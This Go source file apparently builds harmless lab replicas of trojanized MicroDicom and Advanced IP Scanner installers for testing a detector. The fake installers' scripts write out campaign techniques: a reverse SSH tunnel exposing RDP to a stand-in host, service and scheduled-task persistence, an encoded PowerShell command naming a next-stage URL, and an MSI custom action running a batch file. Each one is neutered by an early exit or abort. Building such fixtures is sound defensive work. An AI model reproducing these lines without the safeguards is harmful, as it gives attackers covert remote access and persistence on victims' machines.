package main

import (
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"os"
	"strings"
	"unicode/utf16"

	"lurehound"
	"lurehound/internal/lab/installer"
)

// stop is the beginning of every batch file: nothing behind it is reached.
const stop = "@echo off\r\necho Lurehound laboratory: this file does nothing.\r\nexit /b 0\r\n"

// ingredients are the files that the installers hold.
func (m *maker) ingredients() error {
	for name, line := range map[string]string{
		"mDicom.unsigned": "Lurehound laboratory: a viewer that shows nothing.",
		"UpdaterSvc.exe":  "Lurehound laboratory: a service that serves nothing.",
		"scanner.exe":     "Lurehound laboratory: a scanner that scans nothing.",
	} {
		if err := os.WriteFile(m.path(name), program(line, uint32(released.Unix())), 0o600); err != nil {
			return err
		}
	}
	if err := m.sign("mDicom.unsigned", "mDicom.exe", "vendor", released, true); err != nil {
		return err
	}
	for name, text := range map[string]string{
		"7655.bat": stop + ":again\r\n" +
			"ssh -N -R 7655:127.0.0.1:3389 -i \"%~dp0id_laboratory\" -o StrictHostKeyChecking=no -p 443 tunnel@203.0.113.99\r\n" +
			"timeout /t 60\r\ngoto again\r\n",
		"check.bat":   stop + "start \"\" http://203.0.113.77/status.html\r\n",
		"licence.txt": "This file belongs to the Lurehound laboratory. It holds no product.\r\n",
	} {
		if err := m.write(name, text); err != nil {
			return err
		}
	}
	if key := keptKey(); key != nil {
		return os.WriteFile(m.path("id_laboratory"), key, 0o600)
	}
	return m.tool("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "lurehound-laboratory-test-key", "-f", "id_laboratory")
}

// keptKey is the SSH key that the present fake carries: its fingerprint is in
// documents and tests. Nil when there is no fake yet.
func keptKey() []byte {
	f, err := installer.Find("fake")
	if err != nil {
		return nil
	}
	r, err := installer.Open(f)
	if err != nil {
		return nil
	}
	b := make([]byte, f.Parts[0].Size)
	if _, err := r.ReadAt(b, 0); err != nil {
		return nil
	}
	i := bytes.Index(b, []byte("-----BEGIN OPENSSH PRIVATE KEY-----"))
	end := []byte("-----END OPENSSH PRIVATE KEY-----\n")
	j := bytes.Index(b, end)
	if i < 0 || j < i {
		return nil
	}
	return b[i : j+len(end)]
}

// script is an NSIS installer that says what it is and ends before it does anything.
func script(target, compress, out, product, company string, lines ...string) string {
	return strings.Join(append([]string{
		"Unicode true", "Target " + target, compress, `OutFile "` + out + `"`, `Name "` + product + `"`,
		"RequestExecutionLevel user", `InstallDir "$TEMP\Lurehound laboratory"`,
		"VIProductVersion 2024.2.0.0", `VIAddVersionKey "ProductName" "` + product + `"`, `VIAddVersionKey "CompanyName" "` + company + `"`,
		`VIAddVersionKey "FileDescription" "` + product + ` (Lurehound laboratory)"`, `VIAddVersionKey "FileVersion" "2024.2"`,
		`VIAddVersionKey "LegalCopyright" "Lurehound laboratory"`,
		"Function .onInit", `MessageBox MB_OK "Lurehound laboratory: this installer installs nothing."`, "Abort", "FunctionEnd",
		`Section "All"`, `SetOutPath "$INSTDIR"`,
	}, append(lines, "SectionEnd", "")...), "\n")
}

func (m *maker) nsis(name, text string) error {
	if err := m.write(name+".nsi", text); err != nil {
		return err
	}
	return m.tool("makensis", "-V2", name+".nsi")
}

func (m *maker) genuine() error {
	if err := m.nsis("genuine", script("amd64-unicode", "SetCompressor zlib", "genuine.nsis", "MicroDicom DICOM Viewer", "MicroDicom Ltd",
		"File mDicom.exe", "File licence.txt")); err != nil {
		return err
	}
	head, noise, err := m.padded("genuine.nsis", "genuine.exe", "vendor", 11534336, 20242, released, true)
	if err != nil {
		return err
	}
	return m.keep(installer.File{Name: "genuine", As: "MicroDicom-2024.2-x64.exe", What: "the vendor's installer of the laboratory",
		Signer: "MicroDicom Ltd", Digest: lurehound.DigestMatch, Modified: released}, "genuine.exe", head, noise, 20242)
}

func (m *maker) fake() error {
	if err := m.nsis("fake", script("amd64-unicode", "SetCompress off", "fake.nsis", "MicroDicom DICOM Viewer", "Helping Businesses Limited",
		"File mDicom.exe", "File licence.txt", "File UpdaterSvc.exe", "File 7655.bat", "File id_laboratory",
		`ExecWait 'sc.exe create UpdaterSvc binPath= "$INSTDIR\UpdaterSvc.exe" start= auto'`,
		`Exec '"$INSTDIR\7655.bat"'`)); err != nil {
		return err
	}
	head, noise, err := m.padded("fake.nsis", "fake.exe", "bad", 187695104, 7655, faked, true)
	if err != nil {
		return err
	}
	return m.keep(installer.File{Name: "fake", As: "MicroDicom-2024-Setup-x64.exe", What: "the campaign's installer: a service, an SSH tunnel and its key beside the viewer",
		Signer: "Helping Businesses Limited", Digest: lurehound.DigestMatch, Modified: faked}, "fake.exe", head, noise, 7655)
}

// encoded is a command as PowerShell's -EncodedCommand takes it.
func encoded(command string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(command)) {
		b = binary.LittleEndian.AppendUint16(b, u)
	}
	return base64.StdEncoding.EncodeToString(b)
}

// others are installers of other builds, and those of the second brand.
func (m *maker) others() error {
	command := encoded("Write-Output 'Lurehound laboratory: this command only prints'; $next = 'http://203.0.113.77/next.ps1'")
	if err := m.nsis("task", script("x86-unicode", "SetCompressor /SOLID zlib", "task.nsis", "MicroDicom DICOM Viewer", "Side Street Software Ltd",
		"File mDicom.exe", "File check.bat",
		`ExecWait 'schtasks.exe /create /tn "UpdaterSvcCheck" /tr "$INSTDIR\check.bat" /sc onlogon'`,
		`ExecWait 'powershell.exe -NoProfile -EncodedCommand `+command+`'`)); err != nil {
		return err
	}
	if err := m.nsis("scanner", script("amd64-unicode", "SetCompressor zlib", "scanner.nsis", "Advanced IP Scanner", "Famatech Corp.",
		"File scanner.exe", "File licence.txt")); err != nil {
		return err
	}
	if err := m.keep(installer.File{Name: "nsis-task", As: "MicroDicom-Update.exe", What: "an unsigned NSIS installer with a scheduled task and an encoded command",
		Digest: lurehound.DigestNone, Modified: faked}, "task.nsis", m.length("task.nsis"), 0, 0); err != nil {
		return err
	}
	head, noise, err := m.padded("scanner.nsis", "scanner-setup.exe", "famatech", 20971520, 2022, released, true)
	if err != nil {
		return err
	}
	if err := m.keep(installer.File{Name: "scanner-genuine", As: "Advanced_IP_Scanner_2.5.exe", What: "the second vendor's installer of the laboratory",
		Signer: "Famatech Corp.", Digest: lurehound.DigestMatch, Modified: released}, "scanner-setup.exe", head, noise, 2022); err != nil {
		return err
	}
	for _, p := range []struct{ name, as, product, company, key, signer, what string }{
		{"msi-service", "MicroDicom-Setup.msi", "MicroDicom DICOM Viewer", "Side Street Software Ltd", "", "", "an unsigned MSI with a service, a custom action and a batch file"},
		{"scanner-fake", "Advanced_IP_Scanner_Setup.msi", "Advanced IP Scanner", "Helping Businesses LTD", "bad2", "Helping Businesses Limited",
			"the fake of the second brand: an MSI of the first campaign's signer, by another certificate"},
	} {
		if err := m.write(p.name+".wxs", wix(p.product, p.company)); err != nil {
			return err
		}
		made := p.name + ".msi"
		if err := m.tool("wixl", "-a", "x64", "-o", made, p.name+".wxs"); err != nil {
			return err
		}
		// wixl knows no action that runs a command in a folder: 34, and 192 for "start it and don't wait".
		if err := m.tool("msibuild", made, "-q", "INSERT INTO `CustomAction` (`Action`, `Type`, `Source`, `Target`) VALUES ('RunBatch', 226, 'INSTALLDIR', 'cmd.exe /c check.bat')"); err != nil {
			return err
		}
		state := lurehound.DigestNone
		if p.key != "" {
			if err := m.sign(made, p.name+".signed", p.key, faked, true); err != nil {
				return err
			}
			made, state = p.name+".signed", lurehound.DigestMatch
		}
		if err := m.keep(installer.File{Name: p.name, As: p.as, What: p.what, Signer: p.signer, Digest: state, Modified: faked}, made, m.length(made), 0, 0); err != nil {
			return err
		}
	}
	return nil
}

// length of a made file; 0 when it isn't there, which keep then says.
func (m *maker) length(name string) int64 {
	info, err := os.Stat(m.path(name))
	if err != nil {
		return 0
	}
	return info.Size()
}

// wix is an MSI whose launch condition is never met. The row of RunBatch is put
// into it afterwards.
func wix(product, company string) string {
	return `<?xml version="1.0" encoding="utf-8"?>
<Wix xmlns="http://schemas.microsoft.com/wix/2006/wi">
 <Product Id="*" Name="` + product + `" Manufacturer="` + company + `" Version="2.5.1" Language="1033" UpgradeCode="6f1a5a1e-7655-4c61-8b20-4c7572656875">
  <Package Id="*" InstallerVersion="200" Compressed="yes" InstallScope="perUser" Comments="Lurehound laboratory: installs nothing"/>
  <Media Id="1" Cabinet="files.cab" EmbedCab="yes"/>
  <Condition Message="Lurehound laboratory: this package installs nothing.">0</Condition>
  <Directory Id="TARGETDIR" Name="SourceDir">
   <Directory Id="TempFolder"><Directory Id="INSTALLDIR" Name="Lurehound laboratory">
    <Component Id="Service" Guid="6f1a5a1e-7655-4c61-8b20-4c7572656876">
     <File Id="UpdaterSvc.exe" Name="UpdaterSvc.exe" Source="UpdaterSvc.exe" KeyPath="yes"/>
     <ServiceInstall Id="UpdaterSvc" Name="UpdaterSvc" DisplayName="Updater Service" Type="ownProcess" Start="demand" ErrorControl="ignore"/>
    </Component>
    <Component Id="Batch" Guid="6f1a5a1e-7655-4c61-8b20-4c7572656877"><File Id="check.bat" Name="check.bat" Source="check.bat" KeyPath="yes"/></Component>
    <Component Id="Program" Guid="6f1a5a1e-7655-4c61-8b20-4c7572656878"><File Id="scanner.exe" Name="scanner.exe" Source="scanner.exe" KeyPath="yes"/></Component>
   </Directory></Directory>
  </Directory>
  <InstallExecuteSequence><Custom Action="RunBatch" After="InstallFinalize"/></InstallExecuteSequence>
  <Feature Id="All" Level="1"><ComponentRef Id="Service"/><ComponentRef Id="Batch"/><ComponentRef Id="Program"/></Feature>
 </Product>
</Wix>
`
}
